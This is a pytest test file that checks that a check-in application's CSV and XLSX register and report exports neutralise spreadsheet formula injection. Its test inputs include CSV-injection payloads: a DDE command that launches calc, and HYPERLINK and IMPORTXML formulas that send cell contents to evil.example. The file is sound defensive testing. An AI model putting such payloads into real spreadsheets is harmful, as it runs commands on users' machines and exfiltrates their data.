"""Every CSV and XLSX the program writes is formula-safe: opened again, no cell starts with a character a
spreadsheet would run as a formula, and no XLSX cell is a formula.

The writers (found with `grep -rn "csv.writer\\|Workbook(" checkin ui`): the attendance register as CSV
and XLSX (checkin.records.exporting, also behind `checkin export`). A person's data export is JSON, and the other
documents are PDFs. The test below fails if a new CSV/XLSX writer appears without being added here.
"""

import csv
import re
import subprocess
import sys
from pathlib import Path

import pytest
from factories import book, make_session, new_database
from openpyxl import load_workbook

from checkin.desk.scanning import record_scan
from checkin.records.exporting import ExportFormat, export_register, safe_cell
from checkin.store.models import Delegate

HOSTILE = [
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def hostile_session(tmp_path):
    database = new_database(tmp_path)
    with database.session() as db:
        session = make_session(db)
        registrations = []
        for i, text in enumerate(HOSTILE):
            registration = book(db, session, text, text, organisation=text, email=f"{text}@example.org")
            delegate: Delegate = registration.delegate
            delegate.job_title = text
            delegate.badge_name = text
            registrations.append(registration)
            if i % 2 == 0:
                db.commit()
                record_scan(db, registration.badge_code, session, desk=HOSTILE[i % len(HOSTILE)])
        db.commit()
        yield database, session, tmp_path
    database.dispose()


def assert_text_is_safe(value: object, where: str) -> None:
    if value is None or isinstance(value, (int, float)):
        return
    text = str(value)
    assert not text.startswith(FORMULA_STARTS), f"{where}: {text!r} would run as a formula"


def check_csv(path: Path) -> int:
    cells = 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for r, row in enumerate(csv.reader(handle)):
            for c, value in enumerate(row):
                assert_text_is_safe(value, f"{path.name} row {r + 1} column {c + 1}")
                cells += 1
    return cells


def check_xlsx(path: Path) -> int:
    cells = 0
    workbook = load_workbook(path)  # not data_only: a formula would come back as one
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {cell.coordinate} is a formula: {cell.value!r}"
                assert_text_is_safe(cell.value, f"{path.name} {cell.coordinate}")
                cells += 1
    return cells


def test_safe_cell_neutralises_every_formula_start():
    for text in HOSTILE:
        assert safe_cell(text).startswith("'") and safe_cell(text)[1:] == text
    assert safe_cell("Preston") == "Preston" and safe_cell(None) == ""


def test_the_register_as_csv_and_xlsx_from_the_core(hostile_session):
    database, session, tmp_path = hostile_session
    with database.session() as db:
        for export_format in (ExportFormat.CSV, ExportFormat.XLSX):
            path = tmp_path / f"register.{export_format}"
            assert export_register(db, db.merge(session), path, export_format, desk="=desk") == len(HOSTILE)
            check = check_csv if export_format is ExportFormat.CSV else check_xlsx
            # Every hostile value reached the file (so every cell was really checked), made inert.
            assert check(path) >= (len(HOSTILE) + 1) * 10
            text = path.read_bytes()
            if export_format is ExportFormat.CSV:
                assert b"'=cmd|' /C calc'!A0" in text


def test_the_register_from_the_command_line(hostile_session):
    database, _session, tmp_path = hostile_session
    database.dispose()
    for name in ("register.csv", "register.xlsx"):
        output = tmp_path / "cli" / name
        output.parent.mkdir(exist_ok=True)
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "checkin.cli",
                "--db",
                str(tmp_path / "desk.sqlite3"),
                "--desk",
                "@evil-desk",
                "export",
                "--session",
                "PRE-0312",
                "-o",
                str(output),
            ],
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=60,
        )
        assert result.returncode == 0, result.stderr
        cells = check_csv(output) if name.endswith(".csv") else check_xlsx(output)
        assert cells >= (len(HOSTILE) + 1) * 10


def test_the_programme_report_as_csv_and_xlsx(hostile_session):
    from checkin.records.report.files import ReportFormat, write_report

    database, _session, tmp_path = hostile_session
    with database.session() as db:
        for report_format in (ReportFormat.CSV, ReportFormat.XLSX):
            path = tmp_path / f"report.{report_format}"
            write_report(db, path, report_format, desk="=desk")
            check = check_csv if report_format is ReportFormat.CSV else check_xlsx
            assert check(path) > 100
            # The organisations are named (fewer than 20), every one made inert.
            text = path.read_bytes() if report_format is ReportFormat.CSV else b""
            if report_format is ReportFormat.CSV:
                assert b"'=cmd|' /C calc'!A0" in text
            else:
                named = {c.value for c in load_workbook(path)["By organisation"]["A"]}
                assert "'" + HOSTILE[0] in named


def test_no_other_spreadsheet_writer_has_appeared():
    """A new CSV or XLSX writer must be added to this file's tests; this finds them in the source."""
    writers = set()
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(\)")
    for folder in ("checkin", "ui"):
        for source in (ROOT / folder).rglob("*.py"):
            if pattern.search(source.read_text(encoding="utf-8")):
                writers.add(source.relative_to(ROOT).as_posix())
    assert writers == {"checkin/records/exporting.py", "checkin/records/report/files.py"}, writers
